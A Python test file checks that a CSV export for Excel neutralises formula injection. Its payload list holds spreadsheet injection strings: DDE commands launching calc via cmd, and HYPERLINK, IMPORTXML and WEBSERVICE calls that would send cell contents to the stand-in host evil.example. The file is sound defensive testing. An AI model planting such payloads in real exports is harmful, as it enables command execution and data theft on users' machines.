"""CSV for Excel: nothing in it runs, and all else is what the plain CSV says."""

import codecs
import csv
import io

from annotator.release.formats.spreadsheet import for_excel

COMMANDS = (
    *("1+1", 'cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1;"x")', "SUM(1;2)", "A1", 'DDE("a";"b";"c")'),
    *('IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")', "1;2\n=3", "“x”", "\u202e1+1"),
    *("2+5+cmd|' /C calc'!A0", "@SUM(1)", "", " ", "=1", "RAND()"),
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]


def table(rows: list[list[str]], cut: int = 7) -> list[list[str]]:
    """What a spreadsheet finds in rows that went out in small pieces."""
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows(rows)
    sent = plain.getvalue().encode()
    body = b"".join(for_excel(sent[at : at + cut] for at in range(0, len(sent), cut)))
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_no_cell_begins_with_what_runs():
    found = [row[0] for row in table([[payload, "x"] for payload in PAYLOADS])]
    assert len(found) >= 100
    assert not [cell for cell in found if cell.startswith(STARTS)]
    assert [cell.removeprefix("'") for cell in found] == PAYLOADS


def test_what_runs_nothing_is_not_touched():
    rows = [["a=1", "Ärger 👋", "", "12", " -3", "two\nlines\r\nthree", 'say "so"', "x" * 200_000]]
    assert table(rows, cut=1000) == rows
